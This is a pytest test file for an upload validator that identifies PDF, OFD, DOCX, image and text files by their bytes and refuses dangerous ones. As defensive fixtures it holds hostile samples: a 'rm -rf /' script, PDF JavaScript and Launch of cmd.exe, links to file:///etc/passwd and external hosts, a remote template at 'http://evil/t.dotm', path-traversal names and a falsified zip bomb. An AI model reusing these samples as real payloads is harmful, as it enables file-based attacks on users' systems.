"""What a file is, is found in its bytes; what it must not be is refused, with the rule and what to do."""

from __future__ import annotations

import contextlib
import io
import zipfile
from typing import Any

import pikepdf
import pytest
from hypothesis import given
from hypothesis import strategies as st

from custodes.people.papers.kinds import DOSSIER, SCANS, PaperLimits, PaperRefused, find_kind
from tests.people.papers.samples import docx, object_stream, ofd, package, pdf, picture, xlsx

LIMITS = PaperLimits(bytes=1 << 20, unpacked=4 << 20, pixels=1_000_000, processor_s=20)


def found(data: bytes, name: str, said: str = "", kinds=DOSSIER) -> str:
    return find_kind(io.BytesIO(data), name, said, kinds, LIMITS).key


def refused(data: bytes, name: str, said: str = "", kinds=DOSSIER) -> str:
    with pytest.raises(PaperRefused) as refusal:
        found(data, name, said, kinds)
    assert refusal.value.rule
    assert refusal.value.remedy
    return str(refusal.value)


@pytest.mark.parametrize(
    ("data", "name", "key"),
    [
        (pdf(), "设计方案.pdf", "pdf"),
        (pdf(), "设计方案.PDF", "pdf"),
        (picture("JPEG"), "标志.jpg", "jpeg"),
        (picture("PNG"), "标志.png", "png"),
        (picture("TIFF"), "扫描.tif", "tiff"),
        (ofd(), "公文.ofd", "ofd"),
        (docx(), "方案.docx", "docx"),
        (xlsx(), "清单.xlsx", "xlsx"),
        ("点位,位置\n东门,外墙\n".encode(), "清单.csv", "text"),
        ("点位,位置\n".encode("gb18030"), "清单.csv", "text"),
    ],
)
def test_each_kind_of_a_dossier_is_known_by_its_bytes(data: bytes, name: str, key: str) -> None:
    assert found(data, name) == key


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"", "空.pdf"),
        (b"MZ\x90\x00" + bytes(300), "程序.pdf"),
        (b"MZ\x90\x00" + bytes(300), "程序.exe"),
        (b"<html><script>alert(1)</script></html>", "说明.txt"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "图.png"),
        (b"#!/bin/sh\nrm -rf /\n", "说明.txt"),
        (b"GIF89a" + bytes(40), "图.gif"),
        (package({"evil.exe": b"MZ"}), "方案.docx"),
        (package({"a.txt": "x"}), "压缩.zip"),
        (b"junk\n" + pdf(), "前面有东西.pdf"),
        (pdf()[:-10], "没传完.pdf"),
        (picture("JPEG")[:40], "断图.jpg"),
        (docx()[:-30], "断.docx"),
        ("二进制\0".encode(), "说明.txt"),
    ],
)
def test_what_no_dossier_takes_is_refused_whatever_it_is_called(data: bytes, name: str) -> None:
    refused(data, name)


def test_name_word_and_bytes_agree() -> None:
    assert "扩展名" in refused(pdf(), "合同.jpg")
    assert "扩展名" in refused(pdf(), "合同.pdf.exe")
    assert "扩展名" in refused(pdf(), "合同")
    refused(pdf(), "合同.pdf", said="image/png")
    assert found(pdf(), "合同.pdf", said="application/x-whatever") == "pdf"


def test_a_letter_takes_scans_alone() -> None:
    assert "DOCX" in refused(docx(), "授权书.docx", kinds=SCANS)


JAVASCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
LINK = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (%s) >> >>]"


@pytest.mark.parametrize(
    ("made", "said"),
    [
        (pdf(b"3 0 obj\n%s\nendobj" % JAVASCRIPT), "脚本"),
        (pdf(b"3 0 obj\n<< /S /J#61vaScript /J#53 (x) >>\nendobj"), "脚本"),
        (pdf(b"3 0 obj\n<< /S 4 0 R /X (x) >>\nendobj\n4 0 obj\n/JavaScript\nendobj"), "脚本"),
        (pdf(b"3 0 obj\n<< /S /Rendition /R << /S /MR >> >>\nendobj"), "脚本"),
        (pdf(object_stream(b"3 0 " + JAVASCRIPT)), "脚本"),
        (pdf(object_stream(b"3 0 << /OpenAction 4 0 R >>")), "OpenAction"),
        (pdf(catalog=b"/OpenAction << /S /URI /URI (http://198.51.100.7/x) >>"), "OpenAction"),
        (pdf(b"3 0 obj\n<< /S /URI /URI (http://a/) >>\nendobj", catalog=b"/OpenAction 3 0 R"), "OpenAction"),
        (pdf(catalog=b"/OpenAction << /S /GoTo /D [9 0 R /Fit] /Next << /S /URI /URI (http://a/) >> >>"), "OpenAction"),
        (pdf(page=b"/AA << /O << /S /URI /URI (http://a/) >> >>"), "OpenAction"),
        (pdf(b"3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj"), "启动其他程序"),
        (pdf(page=b"/Annots [<< /Subtype /Link /A << /S /GoToR /F (\\\\\\\\host\\\\a.pdf) >> >>]"), "文件以外"),
        (pdf(page=LINK % b"file:///etc/passwd"), "文件以外"),
        (pdf(page=LINK % b"\\\\\\\\198.51.100.7\\\\share"), "文件以外"),
        (pdf(b"3 0 obj\n<< /Length 0 /F (other.bin) >>\nstream\n\nendstream\nendobj"), "文件以外"),
        (pdf(b"3 0 obj\n<< /Subtype /Form /Ref << /F (other.pdf) >> >>\nendobj"), "文件以外"),
        (pdf(b"3 0 obj\n<< /S /SubmitForm /F (http://a/) >>\nendobj"), "提交"),
        (pdf(b"3 0 obj\n<< /S /ImportData /F (a.fdf) >>\nendobj"), "提交"),
        (pdf(catalog=b"/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec >>] >> >>"), "夹带"),
        (pdf(b"3 0 obj\n<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream\nendobj"), "夹带"),
        (pdf(page=b"/Annots [<< /Subtype /FileAttachment /FS << /EF << /F 9 0 R >> >> >>]"), "夹带"),
        (pdf(page=b"/Annots [<< /Subtype /RichMedia >>]"), "三维"),
        (pdf(catalog=b"/AcroForm << /XFA [(a) 9 0 R] >>"), "XFA"),
    ],
)
def test_a_pdf_with_active_content_is_refused_and_told_which(made: bytes, said: str) -> None:
    assert said in refused(made, "合同.pdf")


@pytest.mark.parametrize(
    "made",
    [
        pdf(catalog=b"/OpenAction [9 0 R /Fit]"),
        pdf(catalog=b"/OpenAction << /S /GoTo /D [9 0 R /XYZ 0 0 1] >>"),
        pdf(page=LINK % b"https://www.example.cn/"),
        pdf(b"3 0 obj\n<< /Subtype /Image /Length 5 >>\nstream\n /JS \nendstream\nendobj"),
        pdf(b"3 0 obj\n<< /Title (about /JS and /Launch) >>\nendobj"),
        pdf(page=b"/Resources << /Font << /JS 4 0 R /Launch 4 0 R >> >>"),
        pdf(b"3 0 obj\n<< /Type /StructElem /S /P /Ref [9 0 R] >>\nendobj"),
    ],
)
def test_what_programs_that_write_pdf_add_is_taken(made: bytes) -> None:
    assert found(made, "合同.pdf") == "pdf"


@pytest.mark.parametrize("of", [{"R": 6}, {"R": 4}, {"R": 3, "aes": False, "metadata": False}])
@pytest.mark.parametrize("user", ["", "0471"])
def test_a_locked_pdf_is_refused(user: str, of: dict[str, Any]) -> None:
    locked = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as plain:
        plain.save(locked, encryption=pikepdf.Encryption(user=user, owner="0471", **of))
    assert "密码" in refused(locked.getvalue(), "合同.pdf")


TEMPLATE = '<R><Relationship Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/></R>'


@pytest.mark.parametrize(
    "made",
    [
        docx({"word/vbaProject.bin": b"x"}),
        docx(types='<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
        docx({"word/embeddings/oleObject1.bin": b"x"}),
        docx({"word/_rels/settings.xml.rels": TEMPLATE}),
        docx({"word/_rels/settings.xml.RELS": TEMPLATE}),
    ],
)
def test_a_document_with_macros_objects_or_templates_from_elsewhere_is_refused(made: bytes) -> None:
    assert "宏" in refused(made, "方案.docx")


def test_a_document_whose_parts_differ_by_case_alone_is_refused() -> None:
    """We would read one list of types, and who opens it perhaps the other."""
    assert "结构不正常" in refused(docx({"[content_types].xml": "<Types/>"}), "方案.docx")


def test_a_hyperlink_leads_nowhere_by_itself() -> None:
    link = '<R><Relationship Type="http://x/hyperlink" Target="https://a" TargetMode="External"/></R>'
    assert found(docx({"word/_rels/document.xml.rels": link}), "方案.docx") == "docx"


def test_an_ofd_with_a_program_inside_is_refused() -> None:
    assert "宏" in refused(ofd({"Doc_0/Attachs/a.exe": b"MZ"}), "公文.ofd")
    assert found(ofd({"Doc_0/Signs/Sign_0/SignedValue.dat": b"x"}), "公文.ofd") == "ofd"


def test_a_zip_bomb_is_refused_by_what_it_says_and_by_what_it_does() -> None:
    said = package({"OFD.xml": b" " * (5 << 20)}, deflate=True)
    assert "过大" in refused(said, "公文.ofd")
    # A directory that says less than comes out.
    lying = bytearray(package({"a.xml": b"<a/>" + b" " * (5 << 20)}, deflate=True))
    entry = lying.rindex(b"PK\x01\x02")
    lying[entry + 24 : entry + 28] = (10).to_bytes(4, "little")
    refused(bytes(lying), "公文.ofd")


@pytest.mark.parametrize("name", ["../a.xml", "/etc/a.xml", "a\\b.xml", "C:a.xml"])
def test_a_package_whose_names_lead_out_is_refused(name: str) -> None:
    refused(ofd({name: "x"}), "公文.ofd")


def test_a_locked_package_and_one_behind_a_picture_are_refused() -> None:
    locked = bytearray(ofd())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = locked.index(mark)
        locked[at + offset] |= 1
    assert "密码" in refused(bytes(locked), "公文.ofd")
    assert "压缩包" in refused(picture() + package({"a.txt": "x"}), "图.png")
    entities = '<!DOCTYPE x [<!ENTITY a "b">]><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016">&a;</ofd:OFD>'
    refused(package({"OFD.xml": entities}), "公文.ofd")


def test_a_file_or_a_picture_beyond_the_limits_is_refused() -> None:
    assert "MB" in refused(pdf(b"%" + b"x" * (1 << 20)), "大.pdf")
    assert "像素" in refused(picture(size=(2000, 1000)), "大.png")


@given(
    st.binary(max_size=300),
    st.sampled_from([b"", b"%PDF-", b"PK\x03\x04", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"II*\0"]),
)
def test_no_bytes_raise_anything_else(data: bytes, head: bytes) -> None:
    with contextlib.suppress(PaperRefused):
        find_kind(io.BytesIO(head + data), "a.pdf", "", DOSSIER, LIMITS)


@given(st.binary(max_size=60), st.integers(0, 400))
def test_no_damaged_package_raises_anything_else(noise: bytes, where: int) -> None:
    data = bytearray(docx())
    data[where : where + len(noise)] = noise
    with contextlib.suppress(PaperRefused):
        find_kind(io.BytesIO(bytes(data)), "a.docx", "", DOSSIER, LIMITS)


def test_the_samples_are_what_they_should_be() -> None:
    assert zipfile.ZipFile(io.BytesIO(docx())).testzip() is None
